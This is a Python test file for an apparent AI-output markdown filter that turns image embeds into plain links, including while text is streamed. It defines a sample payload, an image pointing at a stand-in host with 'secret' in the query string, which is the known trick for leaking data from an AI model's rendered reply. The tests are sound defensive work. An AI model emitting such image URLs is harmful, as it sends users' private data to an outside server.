"""Images of strangers in what is shown."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from llm_engineering.application.text.markdown import ImageFilter, show_images_as_links

EVIL = "Look: ![a chart](https://evil.test/?q=secret) here."


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (EVIL, "Look: [a chart](https://evil.test/?q=secret) here."),
        ("![](https://evil.test/x.png)", "[](https://evil.test/x.png)"),
        ("Stop! [1] And vec![1, 2] stays, and so does a!", "Stop! [1] And vec![1, 2] stays, and so does a!"),
        ("[link](https://example.org)", "[link](https://example.org)"),
        ("![a [b] c](https://evil.test)", "[a [b] c](https://evil.test)"),
        ("so![a][ref] and ![ref]", "so[a][ref] and [ref]"),
    ],
)
def test_an_image_becomes_a_link_and_nothing_else_changes(text: str, shown: str) -> None:
    assert show_images_as_links(text) == shown


@given(
    text=st.lists(
        st.sampled_from(["!", "[", "]", "(", ")", "a", " ", "\n", "![", "](", EVIL]), max_size=30
    ).map("".join),
    size=st.integers(1, 7),
)
def test_a_stream_shows_the_same_however_its_pieces_fall(text: str, size: int) -> None:
    images = ImageFilter()
    pieces = [images.feed(text[start : start + size]) for start in range(0, len(text), size)]
    assert "".join([*pieces, images.close()]) == show_images_as_links(text)


def test_plain_text_is_held_back_nowhere() -> None:
    images = ImageFilter()
    assert images.feed("A sentence. ") == "A sentence. "
    assert images.feed("Another one") == "Another one"
    assert images.close() == ""
